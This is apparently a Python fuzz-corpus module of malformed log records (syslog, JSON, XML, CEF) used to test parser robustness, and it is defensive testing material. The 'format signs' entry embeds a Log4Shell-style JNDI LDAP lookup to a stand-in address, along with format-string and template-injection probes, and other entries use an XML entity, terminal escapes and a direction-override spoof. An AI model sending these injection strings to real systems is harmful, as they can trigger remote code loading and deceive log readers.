"""Nasty records: what broke parsers before, here or elsewhere, and what is made to. Each is tried on every source.

Add the bytes of a record that `python -m benchmarks.fuzz` found to `FOUND`, with what it did.
"""

from collections.abc import Iterator

_HEADS = (b"", b"<134>Nov 22 10:15:00 host1 app[1]: ", b"<134>1 2026-11-22T10:15:00Z host1 app 1 - - ")
_DEEP = 5000

SHAPES: dict[str, bytes] = {
    "nothing but blanks": b" \t ",
    "a lone priority": b"<134>",
    "a priority over the highest": b"<192>x",
    "a priority of many digits": b"<" + b"9" * 400 + b">x",
    "a stamp that is no date": b"<134>Feb 31 25:61:61 host1 app: x",
    "a year far away": b"<134>1 9999-12-31T23:59:59.999999999+23:59 host1 app - - - x",
    "structured data never closed": b'<134>1 2026-11-22T10:15:00Z h a - - [x@1 a="' + b"\\" * 3000,
    "deep JSON": b'{"a":' * _DEEP + b"1" + b"}" * _DEEP,
    "deep JSON never closed": b"[" * _DEEP,
    "a JSON array of numbers": b"[" + b"1," * 20000 + b"1]",
    "JSON with a lone surrogate": b'{"EventID":1,"message":"\\ud800","host":"\\udfff"}',
    "JSON with numbers out of range": b'{"EventID":1e999,"ts":-1e308,"port":99999999999999999999999999,"n":NaN}',
    "JSON with a key that comes twice": b'{"message":"a","message":{"b":1},"host":[],"host":null}',
    "JSON of wrong types": b'{"EventID":{},"event_type":[1],"message":1,"time":true,"records":{"a":1},"host":{"name":[]}}',
    "JSON with an empty key": b'{"":{"":{"":1}},".":1,"a..b":2,".a":3}',
    "JSON with a long key": b'{"' + b"k" * 70000 + b'":1}',
    "JSON of many keys": b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(5000)) + b"}",
    "XML with an entity": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><Event xmlns="x"><System>&a;&a;</System></Event>',
    "deep XML": b"<Event>" + b"<a>" * _DEEP + b"</a>" * _DEEP,
    "pairs without end": b" ".join(b"k%d=%d" % (n, n) for n in range(8000)),
    "one key many times": b"a=1 " * 8000,
    "equals signs": b"=" * 20000,
    "quotes": b'"' * 20001,
    "backslashes in quotes": b'x="' + b"\\" * 20001,
    "escaped quotes": b'x="' + b'\\"' * 10000 + b'"',
    "commas": b"," * 20000,
    "bars": b"CEF:0|" + b"|" * 20000,
    "blanks between two words": b"a" + b" " * 20000 + b"b",
    "brackets": b"[" * 10000 + b"]" * 10000,
    "round brackets": b"(" * 10000 + b")" * 10000,
    "colons": b":" * 20000,
    "percent signs": b"%" * 20000,
    "slashes": b"/" * 20000,
    "dots": b"1." * 10000,
    "addresses": b"192.0.2.1 " * 2000,
    "digits": b"9" * 20000,
    "a long word": b"a" * 60000,
    "NUL": b"\x00",
    "NUL inside": b"<134>Nov 22 10:15:00 host1 app: a\x00b",
    "no UTF-8": b"<134>Nov 22 10:15:00 h\xff\xfe app: \xc3\x28 \xf0\x28\x8c\x28",
    "Windows-1252": b"<134>Nov 22 10:15:00 host1 app: br\xf8ndby \xe6\xf8\xe5",
    "UTF-16": "\ufeff<134>Nov 22 10:15:00 host1 app: blåbær".encode("utf-16-le"),
    "a byte order mark": "\ufeff<134>Nov 22 10:15:00 host1 app: x".encode(),
    "letters that turn the direction": "<134>Nov 22 10:15:00 host1 app: user=\u202eadmin\u202c".encode(),
    "terminal escapes": b"<134>Nov 22 10:15:00 host1 app: \x1b[2J\x1b]0;x\x07",
    "line ends": b"\r\n" * 5000 + b"x",
    "digits that are none of ASCII": "<134>Nov 22 10:15:00 host1 app: port=\u0662\u0663 pid=\u00b2".encode(),
    "a CEF header without end": b"CEF:0|a|b|c|" + b"\\|" * 5000,
    "format signs": b"<134>Nov 22 10:15:00 host1 app: %s%n%x${jndi:ldap://192.0.2.1/a}{{7*7}}",
}
FOUND: dict[str, bytes] = {}


def nasty() -> Iterator[tuple[str, bytes]]:
    """Every nasty record with its name: alone, and behind syslog headers."""
    for name, body in (SHAPES | FOUND).items():
        yield name, body
        if not body.startswith(b"<1"):
            for number, head in enumerate(_HEADS[1:], 1):
                yield f"{name}, header {number}", head + body


def spoiled(line: bytes) -> Iterator[bytes]:
    """A good record made bad in ways that parsers fall over: cut, doubled, emptied, its numbers and words replaced."""
    third = len(line) // 3
    yield line[:third]
    yield line[: -third or None]
    yield line + line
    yield line.replace(b'"', b"")
    yield line.replace(b" ", b"")
    yield line.replace(b"=", b"==").replace(b":", b"::")
    yield bytes(57 if 48 <= byte <= 57 else byte for byte in line)  # all digits nines: dates, ports, addresses out of range
    yield bytes(45 if 48 <= byte <= 57 else byte for byte in line)  # all digits dashes
    yield line.replace(b"1", "\u00b2".encode())  # isdigit() and no number
    yield line[:third] + b"\xff\xfe\x00" + line[third:]
    yield line.replace(b",", b",,").replace(b"|", b"||")
    yield line.replace(b'"', b'"' * 200, 1)
    yield line[: 2 * third] + b"A" * 30000 + line[2 * third :]
    yield line[:third] + b"\\" + b"A" * 30000 + line[third:] + b"\\,time=1"  # the same where texts are unescaped
    yield line.replace(b"null", b"{}").replace(b"true", b"[[]]").replace(b"{}", b'"x"')
